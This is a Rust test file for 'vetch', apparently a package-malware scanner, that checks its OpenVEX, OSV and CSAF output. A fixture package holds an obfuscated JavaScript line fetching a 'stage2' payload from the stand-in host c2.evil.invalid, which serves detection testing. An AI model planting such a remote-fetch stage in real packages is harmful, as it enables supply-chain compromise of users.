//! Documents for others: OpenVEX, OSV and CSAF of a scan.

use std::collections::BTreeSet;
use std::process::Command;

use serde_json::{Value, json};
use vetch_testkit::{Pkg, Project, ProjectBuilder, Run};

use crate::vetch;

const CODE: &str =
    "const h = ['c2', 'evil', 'invalid'].join('.');\nrequire('https').get('https://' + h + '/stage2');\n";
const SCALES: &str = "pkg:npm/Scales@1.0.0";
const WEIGHTS: &str = "pkg:npm/%40acme/weights@2.0.0";
const EPOCH: &str = "1780000000";
const NOW: &str = "2026-05-28T20:26:40Z";

fn scales() -> Pkg {
    Pkg::new("Scales", "1.0.0").file("index.js", CODE)
}

fn weights() -> Pkg {
    Pkg::new("@acme/weights", "2.0.0").file("index.js", "module.exports = 1;\n")
}

fn vulnerability(id: &str, cve: &str) -> Value {
    json!({"id": id, "modified": "2026-04-07T14:41:20Z", "aliases": [cve], "summary": "Weights may be lost",
        "affected": [{"package": {"ecosystem": "npm", "name": "@acme/weights"},
            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "2.1.0"}]}]}]})
}

/// A malicious release, with whom it contacts, and one with two vulnerabilities, of which a vendor has judged the second.
fn builder() -> ProjectBuilder {
    let judged = json!({"@context": "https://openvex.dev/ns/v0.2.0", "@id": "https://acme.invalid/1", "author": "Acme",
        "timestamp": "2026-05-01T00:00:00Z", "version": 1, "statements": [{"vulnerability": {"name": "CVE-2026-1002"},
            "products": [{"@id": WEIGHTS}], "status": "not_affected", "justification": "vulnerable_code_not_present"}]});
    Project::builder("demo")
        .lock_only(scales())
        .lock_only(weights())
        .archive(&scales())
        .archive(&weights())
        .file("list.csv", "type,value,source\ndomain,evil[.]invalid,Example CERT\n")
        .file("one.json", vulnerability("GHSA-1", "CVE-2026-1001").to_string())
        .file("two.json", vulnerability("GHSA-2", "CVE-2026-1002").to_string())
        .file("vex.json", judged.to_string())
}

const SETTINGS: &str = "[documents]\nname = \"Example Team\"\nnamespace = \"https://team.example.invalid/\"\n\
    contact = \"mailto:security@team.example.invalid\"\ncategory = \"vendor\"\nprefix = \"TEAM\"\ntlp = \"green\"\n";

fn imported(builder: ProjectBuilder) -> Project {
    let project = builder.build();
    let import = vetch(&["intel", "import", "list.csv", "one.json", "two.json", "vex.json"]);
    import.dir(project.root()).home(project.home()).run().expect(0);
    project
}

fn scan(project: &Project, format: &str, more: &[&str]) -> Run {
    let run = vetch(&["scan", "--offline", "--allow-incomplete", "--format", format]).args(more.iter().copied());
    let run = run.args(["--archives"]).args([project.archives()]).env("SOURCE_DATE_EPOCH", EPOCH);
    run.dir(project.root()).home(project.home()).run()
}

fn document(project: &Project, format: &str) -> Value {
    let run = scan(project, format, &[]).expect(1);
    assert_eq!(scan(project, format, &[]).stdout, run.stdout, "the same bytes every time");
    run.json()
}

/// The keys of an object are these, and no others.
#[track_caller]
fn keys(object: &Value, required: &[&str], optional: &[&str]) {
    let own: BTreeSet<&str> = object.as_object().unwrap().keys().map(String::as_str).collect();
    for key in required {
        assert!(own.contains(key), "{key} is missing in {object}");
    }
    for key in own {
        assert!(required.contains(&key) || optional.contains(&key), "{key} is unknown: {object}");
    }
}

/// What the schema of OpenVEX 0.2.0 and its specification demand.
#[track_caller]
fn check_openvex(document: &Value) {
    keys(document, &["@context", "@id", "author", "timestamp", "version", "statements"], &["role", "tooling"]);
    assert_eq!(document["@context"], "https://openvex.dev/ns/v0.2.0");
    assert!(document["version"].as_u64().unwrap() >= 1);
    let statements = document["statements"].as_array().unwrap();
    let unique: BTreeSet<String> = statements.iter().map(Value::to_string).collect();
    assert!(!statements.is_empty() && unique.len() == statements.len());
    for statement in statements {
        let reasons = ["justification", "impact_statement", "action_statement", "status_notes"];
        keys(statement, &["vulnerability", "status", "products"], &reasons);
        keys(&statement["vulnerability"], &["name"], &["description", "aliases"]);
        let has = |key: &str| statement[key].as_str().is_some_and(|text| !text.is_empty());
        match statement["status"].as_str().unwrap() {
            "not_affected" => assert!(has("justification") != has("impact_statement"), "{statement}"),
            "affected" => assert!(has("action_statement"), "{statement}"),
            status => assert!(["fixed", "under_investigation"].contains(&status), "{statement}"),
        }
        for product in statement["products"].as_array().unwrap() {
            keys(product, &["@id"], &["subcomponents"]);
            assert!(product["@id"].as_str().unwrap().starts_with("pkg:"));
        }
    }
}

/// The statement about one vulnerability.
#[track_caller]
fn about<'d>(document: &'d Value, name: &str) -> &'d Value {
    let statements = document["statements"].as_array().unwrap();
    statements.iter().find(|one| one["vulnerability"]["name"] == name).unwrap_or_else(|| panic!("{name}: {document}"))
}

#[test]
fn openvex_states_what_is_known_and_no_more() {
    let project = imported(builder());
    let document = document(&project, "openvex");
    check_openvex(&document);
    assert_eq!((&document["author"], &document["timestamp"]), (&"vetch".into(), &NOW.into()));
    let open = about(&document, "CVE-2026-1001");
    assert_eq!(
        (&open["status"], &open["vulnerability"]["aliases"]),
        (&"under_investigation".into(), &json!(["GHSA-1"]))
    );
    let product = json!([{"@id": "pkg:npm/demo@1.0.0", "subcomponents": [{"@id": WEIGHTS}]}]);
    assert_eq!(open["products"], product);
    let judged = about(&document, "CVE-2026-1002");
    assert_eq!(
        (&judged["status"], &judged["justification"]),
        (&"not_affected".into(), &"vulnerable_code_not_present".into())
    );
    assert!(judged["status_notes"].as_str().unwrap().contains("as Acme says"), "{judged}");
    let malware = document["statements"].as_array().unwrap().iter().find(|one| one["status"] == "affected").unwrap();
    assert!(malware["vulnerability"]["name"].as_str().unwrap().starts_with("VETCH-"), "{malware}");
    assert_eq!(malware["products"][0]["subcomponents"][0]["@id"], SCALES);
    // It is read back: a statement that knows nothing changes nothing.
    std::fs::write(project.root().join("own.json"), document.to_string()).unwrap();
    let import = vetch(&["intel", "import", "own.json"]).dir(project.root()).home(project.home()).run().expect(0);
    assert!(import.stdout.contains("3 judgements (VEX)"), "{}", import.stdout);
    let report = scan(&project, "json", &[]).expect(1);
    let counted = |at: usize| report.release("pkg:npm/%40acme/weights@2.0.0")["advisories"][at]["counted"].clone();
    assert_eq!((counted(0), counted(1)), (true.into(), false.into()));
}

#[test]
fn a_release_scanned_by_itself_is_the_product() {
    let project = imported(builder());
    let archives = project.archives();
    let run = vetch(&["scan", "--offline", "--allow-incomplete", "--format", "openvex"]).args([archives]);
    let document = run.dir(project.root()).home(project.home()).run().expect(1).json();
    check_openvex(&document);
    assert_eq!(about(&document, "CVE-2026-1001")["products"], json!([{"@id": WEIGHTS}]));
}

/// What the schema of OSV 1.7.5 demands of what we write, but for its list of registered prefixes of ids.
#[track_caller]
fn check_osv(record: &Value) {
    let optional = ["aliases", "credits"];
    let required = [
        "schema_version",
        "id",
        "modified",
        "published",
        "summary",
        "details",
        "affected",
        "references",
        "database_specific",
    ];
    keys(record, &required, &optional);
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    for time in [&record["modified"], &record["published"]] {
        let time = text(time);
        assert!(time.len() == 20 && time.ends_with('Z') && time.contains('T'), "{time}");
    }
    let (prefix, digits) = record["id"].as_str().unwrap().rsplit_once('-').unwrap();
    assert!(!prefix.is_empty() && digits.len() == 16 && digits.bytes().all(|byte| byte.is_ascii_hexdigit()));
    for affected in record["affected"].as_array().unwrap() {
        keys(affected, &["package", "versions"], &["database_specific"]);
        keys(&affected["package"], &["ecosystem", "name", "purl"], &[]);
        assert!(["npm", "PyPI"].contains(&affected["package"]["ecosystem"].as_str().unwrap()));
        assert!(affected["versions"].as_array().unwrap().iter().all(Value::is_string));
        assert!(affected["database_specific"].is_object());
    }
    for reference in record["references"].as_array().unwrap() {
        keys(reference, &["type", "url"], &[]);
        assert!(["ADVISORY", "WEB"].contains(&reference["type"].as_str().unwrap()));
        assert!(text(&reference["url"]).starts_with("https://"));
    }
    for credit in record["credits"].as_array().into_iter().flatten() {
        keys(credit, &["name", "type"], &["contact"]);
        assert_eq!(credit["type"], "FINDER");
        assert!(credit["contact"].as_array().into_iter().flatten().all(Value::is_string));
    }
    assert!(record["database_specific"].is_object());
}

#[test]
fn a_record_of_a_known_malware_is_an_alias_and_names_the_publisher() {
    let known = vulnerability("MAL-2026-1", "GHSA-9").to_string();
    let builder = builder().home_file(".config/vetch/config.toml", SETTINGS).file("known.json", known);
    let project = imported(builder);
    vetch(&["intel", "import", "known.json"]).dir(project.root()).home(project.home()).run().expect(0);
    let lines = scan(&project, "osv", &[]).expect(1).stdout;
    let records: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    records.iter().for_each(check_osv);
    let record = records.iter().find(|one| one["affected"][0]["package"]["name"] == "@acme/weights").unwrap();
    assert_eq!(record["aliases"], json!(["GHSA-9", "MAL-2026-1"]));
    assert!(record["id"].as_str().unwrap().starts_with("TEAM-"), "{record}");
    let contact =
        json!([{"name": "Example Team", "type": "FINDER", "contact": ["mailto:security@team.example.invalid"]}]);
    assert_eq!(record["credits"], contact);
    assert_eq!(record["references"][0], json!({"type": "ADVISORY", "url": "https://osv.dev/vulnerability/GHSA-9"}));
    // VEX calls it by the id that others know.
    let document = document(&project, "openvex");
    check_openvex(&document);
    assert_eq!(about(&document, "MAL-2026-1")["status"], "affected");
}

#[test]
fn osv_is_a_record_of_each_malicious_release_and_comes_back() {
    let project = imported(builder());
    let record = document(&project, "osv");
    check_osv(&record);
    assert_eq!((&record["schema_version"], &record["modified"]), (&"1.7.5".into(), &NOW.into()));
    let affected = &record["affected"][0];
    assert_eq!(affected["package"], json!({"ecosystem": "npm", "name": "Scales", "purl": "pkg:npm/Scales"}));
    assert_eq!((&affected["versions"], affected.get("ranges")), (&json!(["1.0.0"]), None));
    assert_eq!(affected["database_specific"]["cwes"][0]["cweId"], "CWE-506");
    let own = &record["database_specific"];
    assert_eq!(own["iocs"]["urls"], json!(["https://c2.evil.invalid/stage2"]));
    assert!(own["iocs"]["domains"].as_array().unwrap().contains(&"evil.invalid".into()), "{own}");
    assert_eq!(
        (&own["evidence"][0]["rule"], &own["evidence"][0]["file"]),
        (&"known-indicator".into(), &"index.js".into())
    );
    // Elsewhere nothing is known but this record, and it means the same release and whom that contacts.
    let id = record["id"].as_str().unwrap();
    let other = Pkg::new("other", "3.0.0").file("index.js", CODE);
    let second =
        Project::builder("second").lock_only(scales()).lock_only(other.clone()).lock_only(Pkg::new("scales", "1.0.0"));
    let second = second.archive(&other).file("record.json", record.to_string()).build();
    vetch(&["intel", "import", "record.json"]).dir(second.root()).home(second.home()).run().expect(0);
    let report = scan(&second, "json", &[]).expect(1);
    let releases = report.json()["releases"].as_array().unwrap().clone();
    let named: Vec<&Value> = releases.iter().filter(|one| one["advisories"][0]["id"] == id).collect();
    assert_eq!(named.len(), 1, "`scales` is another package than `Scales`: {releases:?}");
    assert_eq!(named[0]["verdict"], "malicious");
    assert_eq!(report.release("pkg:npm/other@3.0.0")["findings"][0]["rule"], "known-indicator");
}

#[test]
fn records_go_to_lines_a_folder_or_one_file() {
    let more = Pkg::new("more", "1.0.0").file("index.js", CODE);
    let project = imported(builder().lock_only(more.clone()).archive(&more));
    let lines = scan(&project, "osv", &[]).expect(1);
    assert_eq!(lines.stdout.lines().count(), 2);
    assert!(lines.stdout.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()));
    let one = scan(&project, "osv", &["--output", "one-record.json"]).expect(2);
    assert!(one.stderr.contains("there are 2") && one.stderr.contains(".jsonl"), "{}", one.stderr);
    assert!(!project.root().join("one-record.json").exists());
    scan(&project, "osv", &["--output", "all.jsonl"]).expect(1);
    assert_eq!(std::fs::read_to_string(project.root().join("all.jsonl")).unwrap(), lines.stdout);
    scan(&project, "osv", &["--output", "records/"]).expect(1);
    let files = std::fs::read_dir(project.root().join("records")).unwrap();
    let names: BTreeSet<String> = files.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(names.len(), 2);
    for name in &names {
        let text = std::fs::read_to_string(project.root().join("records").join(name)).unwrap();
        let record: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(*name, format!("{}.json", record["id"].as_str().unwrap()));
    }
    // The folder is there now, and says the same again; both forms are read.
    scan(&project, "osv", &["--output", "records"]).expect(1);
    for source in ["records", "all.jsonl"] {
        let arguments = ["intel", "import", source, "--intel", "fresh"];
        let import = vetch(&arguments).dir(project.root()).home(project.home()).run().expect(0);
        assert!(import.stdout.contains("2 added") || import.stdout.contains("2 known already"), "{}", import.stdout);
    }
    scan(&project, "osv", &["--output", "no/such/folder/"]).expect(2);
}

fn with_settings(text: &str) -> Project {
    imported(builder().home_file(".config/vetch/config.toml", text))
}

#[test]
fn csaf_says_who_publishes_or_is_not_made() {
    let project = imported(builder());
    for format in ["csaf", "csaf-vex"] {
        let run = scan(&project, format, &[]).expect(2);
        assert!(
            run.stderr.contains("`name` and `namespace` are") && run.stderr.contains("[documents]"),
            "{}",
            run.stderr
        );
        assert_eq!(run.stdout, "");
    }
    let project = with_settings(SETTINGS);
    let document = document(&project, "csaf");
    let head = &document["document"];
    assert_eq!((&head["category"], &head["csaf_version"]), (&"csaf_security_advisory".into(), &"2.0".into()));
    assert_eq!(
        head["publisher"],
        json!({"category": "vendor", "name": "Example Team", "namespace": "https://team.example.invalid",
            "contact_details": "mailto:security@team.example.invalid"})
    );
    assert_eq!(
        (&head["distribution"]["tlp"]["label"], &head["tracking"]["current_release_date"]),
        (&"GREEN".into(), &NOW.into())
    );
    assert!(head["tracking"]["id"].as_str().unwrap().starts_with("TEAM-"), "{head}");
    // The user's word goes before the project's, which fills in what the user leaves open.
    let policy = SETTINGS.replace("Example Team", "Somebody Else");
    let project = imported(
        builder().home_file(".config/vetch/config.toml", "[documents]\nname = \"Us\"\n").file("vetch.toml", &policy),
    );
    let publisher = self::document(&project, "csaf-vex")["document"]["publisher"].clone();
    assert_eq!((&publisher["name"], &publisher["category"]), (&"Us".into(), &"vendor".into()));
    for (file, text, words) in [
        ("vetch.toml", "[documents]\ncategory = \"king\"\n", "vetch.toml:2"),
        ("vetch.toml", "[documents]\nnamee = \"x\"\n", "did you mean `name`"),
        ("vetch.toml", "[documents]\nnamespace = \"file:///etc\"\n", "https://acme.example"),
    ] {
        let project = imported(builder().file(file, text));
        let run = scan(&project, "csaf", &[]).expect(2);
        assert!(run.stderr.contains(words), "{words}: {}", run.stderr);
    }
    let project = with_settings("[documents]\nprefix = \"MAL\"\n");
    let run = scan(&project, "osv", &[]).expect(2);
    assert!(run.stderr.contains("config.toml") && run.stderr.contains("OpenSSF"), "{}", run.stderr);
}

/// The status of the entry of one id: list and products.
#[track_caller]
fn status(document: &Value, id: &str) -> Value {
    let all = document["vulnerabilities"].as_array().unwrap();
    let is = |one: &&Value| {
        one["cve"] == id || one["ids"].as_array().is_some_and(|ids| ids.iter().any(|other| other["text"] == id))
    };
    all.iter().find(is).unwrap_or_else(|| panic!("{id}: {document}"))["product_status"].clone()
}

#[test]
fn csaf_speaks_of_releases_in_one_profile_and_of_products_in_the_other() {
    let project = with_settings(SETTINGS);
    let (advisory, vex) = (document(&project, "csaf"), document(&project, "csaf-vex"));
    let names = advisory["product_tree"]["full_product_names"].as_array().unwrap();
    let id = |purl: &str| {
        let own = |name: &&Value| name["product_identification_helper"]["purl"] == purl;
        names.iter().find(own).unwrap()["product_id"].as_str().unwrap().to_owned()
    };
    let (weights, demo) = (id(WEIGHTS), id("pkg:npm/demo@1.0.0"));
    let both = format!("{weights}-in-{demo}");
    assert_eq!(status(&advisory, "CVE-2026-1001"), json!({"known_affected": [weights]}));
    assert_eq!(status(&advisory, "CVE-2026-1002"), json!({"known_affected": [weights], "known_not_affected": [both]}));
    assert_eq!(status(&vex, "GHSA-1"), json!({"under_investigation": [both]}));
    assert_eq!(status(&vex, "GHSA-2"), json!({"known_not_affected": [both]}));
    let malware = vex["vulnerabilities"].as_array().unwrap().iter().find(|one| one["cwe"]["id"] == "CWE-506").unwrap();
    let affected = malware["product_status"]["known_affected"].clone();
    assert_eq!(affected, json!([format!("{}-in-{demo}", id(SCALES))]));
    assert_eq!(malware["remediations"][0]["product_ids"], affected);
    // What is made is understood.
    std::fs::write(project.root().join("own.json"), vex.to_string()).unwrap();
    let import = vetch(&["intel", "import", "own.json"]).dir(project.root()).home(project.home()).run().expect(0);
    assert!(import.stdout.contains("3 judgements (VEX)"), "{}", import.stdout);
}

#[test]
fn where_there_is_nothing_to_state_that_is_said() {
    let clean = |builder: ProjectBuilder| builder.home_file(".config/vetch/config.toml", SETTINGS).build();
    for project in
        [clean(Project::builder("demo").lock_only(weights()).archive(&weights())), clean(Project::builder("empty"))]
    {
        for format in ["openvex", "csaf", "csaf-vex"] {
            let run = scan(&project, format, &["--output", "out.json"]).expect(2);
            assert!(run.stderr.contains("at least one statement"), "{}", run.stderr);
            assert!(!project.root().join("out.json").exists());
        }
        let run = scan(&project, "osv", &[]).expect(0);
        assert!(run.stdout.is_empty() && run.stderr.contains("no release is malicious"), "{}", run.stderr);
        scan(&project, "osv", &["--output", "none.jsonl"]).expect(0);
        scan(&project, "osv", &["--output", "out/"]).expect(0);
        let run = scan(&project, "osv", &["--output", "out.json"]).expect(2);
        assert!(run.stderr.contains("there are 0"), "{}", run.stderr);
    }
}

/// csaf-rs, where `cargo xtask ci` has built it: JSON schema and mandatory tests of CSAF 2.0.
#[test]
fn the_validator_of_csaf_agrees() {
    let Some(validator) = std::env::var_os("DOCUMENT_VALIDATOR") else {
        eprintln!("skipped: DOCUMENT_VALIDATOR is not set; `cargo xtask ci` builds it from xtask/document-validator");
        return;
    };
    let judge = |name: &str, document: &Value| {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join(name);
        std::fs::write(&file, document.to_string()).unwrap();
        let output = Command::new(&validator).arg(&file).output().unwrap();
        (output.status.success(), String::from_utf8_lossy(&output.stdout).into_owned())
    };
    let project = with_settings(SETTINGS);
    for format in ["csaf", "csaf-vex"] {
        let mut document = document(&project, format);
        let (is_valid, text) = judge("csaf.json", &document);
        assert!(is_valid, "{format}: {text}");
        // It can say no: an id that is not in the tree (6.1.1), and a missing publisher (schema).
        document["product_tree"]["full_product_names"][0]["product_id"] = "another".into();
        assert!(!judge("csaf.json", &document).0);
        document["document"]["publisher"] = Value::Null;
        assert!(!judge("csaf.json", &document).0);
    }
}
